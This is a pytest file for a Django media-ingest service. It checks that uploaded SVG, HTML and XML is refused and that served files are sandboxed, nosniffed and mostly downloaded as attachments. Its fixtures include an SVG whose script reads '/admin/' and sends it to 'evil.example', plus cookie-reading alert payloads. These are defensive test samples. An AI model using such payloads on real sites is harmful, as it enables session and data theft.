"""Active content (SVG, HTML, XML: markup a browser would run scripts from) never becomes media (issue 13, item 1).

Every source goes through the ingest service's one rule: the stored bytes are sniffed, markup is refused with
a reason, and the content type stored is the sniffed one, whatever the source claimed. Whatever is stored is
served sandboxed, never sniffed by the browser, and as a download unless it is a raster image, audio or video.
(OneDrive's own cases, with its fakes, are in test_onedrive_graph.py; signed S3 URLs in test_object_storage.py.)
"""
import io

import pytest
from django.urls import reverse

from integrations.teams.models import Recording
from integrations.teams import sync
from mediaspace import services
from mediaspace.ingest import entry_ingest
from mediaspace.media_types import NotMedia, media_type
from mediaspace.models import MediaEntry
from tests.storage import stored_files
from tests.teams_fakes import ANN, Lecture, discovered

from .conftest import MP3_HEAD, PNG_HEAD, WEBM_HEAD

Status = MediaEntry.Status
SVG = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>fetch('/admin/').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></svg>")
ACTIVE = {
    "svg": SVG,
    "svg-after-bom-and-blank-lines": b"\xef\xbb\xbf\r\n\n  " + SVG,
    "html": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
    "xhtml-utf16": "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>".encode("utf-16"),
    "blank-then-markup": b" " * 600 + SVG,
}


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE.keys())
def test_markup_is_not_media(content):
    with pytest.raises(NotMedia, match="SVG, HTML or XML"):
        media_type(content[:1024], "logo.png")


@pytest.mark.parametrize("head, filename, expected", [
    (WEBM_HEAD, "clip.svg", "video/webm"), (MP3_HEAD, "song.html", "audio/mpeg"), (PNG_HEAD, "x.svg", "image/png"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "notes.pdf", ""),
    (bytes(8) + b" <\x93\x11" + bytes(range(256)), "data.bin", ""),
], ids=["webm", "mp3", "png", "unknown-bytes", "binary-with-nuls-then-a-bracket"])
def test_media_type_is_told_by_the_bytes_not_the_name(head, filename, expected):
    assert media_type(head, filename) == expected


@pytest.fixture
def owner(make_user):
    return make_user()


@pytest.mark.parametrize("source, filename", [
    (MediaEntry.Source.UPLOAD, "logo.svg"), (MediaEntry.Source.UPLOAD, "holiday.png"),
    (MediaEntry.Source.TEAMS, "recording.mp4"), (MediaEntry.Source.ONEDRIVE, "logo.svg"),
], ids=["upload-svg", "upload-named-png", "teams", "onedrive"])
def test_every_source_is_refused_active_content_with_a_reason_and_nothing_is_kept(owner, client_for, source,
                                                                                  filename):
    entry = entry_ingest(source=source, reference_id="ref-1", owner=owner, name="Logo", stream=io.BytesIO(SVG),
                         filename=filename)

    assert (entry.status, entry.media.name, entry.content_type) == (Status.FAILED, "", "")
    assert "SVG, HTML or XML" in entry.error and "not imported" in entry.error
    assert stored_files(f"entries/{entry.pk}") == []
    served = client_for(owner).get(reverse("mediaspace:entry_media", args=[entry.pk]))
    assert served.status_code == 404 and "svg" not in served["Content-Type"]


def test_a_long_markup_file_is_refused_from_its_first_bytes_without_storing_the_rest(owner):
    read = []

    def chunks():
        yield SVG[:40]
        yield SVG[40:]
        for _ in range(1000):
            read.append(1)
            yield b"<g/>" * 1024

    entry = entry_ingest(source=MediaEntry.Source.UPLOAD, reference_id="ref-1", owner=owner, name="Logo",
                         stream=chunks(), filename="logo.svg")
    assert entry.status == Status.FAILED and len(read) < 1000


def test_the_content_type_stored_is_the_sniffed_one_not_the_claimed_one(owner):
    entry = entry_ingest(source=MediaEntry.Source.TEAMS, reference_id="ref-1", owner=owner, name="Talk",
                         stream=io.BytesIO(MP3_HEAD + b"\x00" * 100), filename="recording.mp4")
    assert (entry.status, entry.content_type) == (Status.READY, "audio/mpeg")


@pytest.mark.django_db
@pytest.mark.usefixtures("microsoft_endpoints")
def test_a_teams_recording_holding_markup_fails_with_the_reason_on_its_ledger_row(integration, graph, ms,
                                                                                    portal_users):
    ms.users = [ANN]
    ms.add_lecture(Lecture(content=SVG))

    recording = sync.ingest(discovered(integration, graph, ms).pk, graph=graph)

    assert recording.state == Recording.State.FAILED and "SVG, HTML or XML" in recording.reason
    (entry,) = MediaEntry.objects.all()
    assert (entry.status, entry.media.name) == (Status.FAILED, "")


# --- serving -----------------------------------------------------------------------------------------------


def media_url(entry):
    return reverse("mediaspace:entry_media", args=[entry.pk])


def test_served_media_is_sandboxed_and_never_sniffed(owner, client_for, make_entry):
    entry = make_entry(owner)
    track = services.caption_add(entry=entry, label="English", language="en",
                                 content=b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nHi\n")
    client = client_for(owner)
    for response in (client.get(media_url(entry)), client.get(media_url(entry), HTTP_RANGE="bytes=0-9"),
                     client.get(media_url(entry), HTTP_RANGE="bytes=999999-"),
                     client.get(reverse("mediaspace:caption_file", args=[track.pk]))):
        assert response["Content-Security-Policy"] == "sandbox", response.status_code
        assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("content, filename", [(WEBM_HEAD, "clip.webm"), (MP3_HEAD, "song.mp3"),
                                               (PNG_HEAD, "picture.png")], ids=["video", "audio", "raster-image"])
def test_video_audio_and_raster_images_are_served_inline(owner, client_for, make_entry, content, filename):
    entry = make_entry(owner, content=content + b"\x00" * 100, filename=filename)
    response = client_for(owner).get(media_url(entry))
    assert response["Content-Disposition"].startswith("inline")


@pytest.mark.parametrize("stored_type", ["", "image/svg+xml", "text/html", "application/pdf"])
def test_anything_else_is_served_as_an_attachment(owner, client_for, make_entry, stored_type):
    # Stored before the bytes were sniffed, or bytes no sniffer knows (a PDF): downloaded, never shown.
    entry = make_entry(owner, content=b"%PDF-1.7\n" + b"\x00" * 100, filename="notes.pdf")
    MediaEntry.objects.filter(pk=entry.pk).update(content_type=stored_type)
    response = client_for(owner).get(media_url(entry))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="notes.pdf"'
    assert response["Content-Security-Policy"] == "sandbox"


def test_caption_files_are_attachments(owner, client_for, make_entry):
    track = services.caption_add(entry=make_entry(owner), label="English", language="en",
                                 content=b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nHi\n")
    response = client_for(owner).get(reverse("mediaspace:caption_file", args=[track.pk]))
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
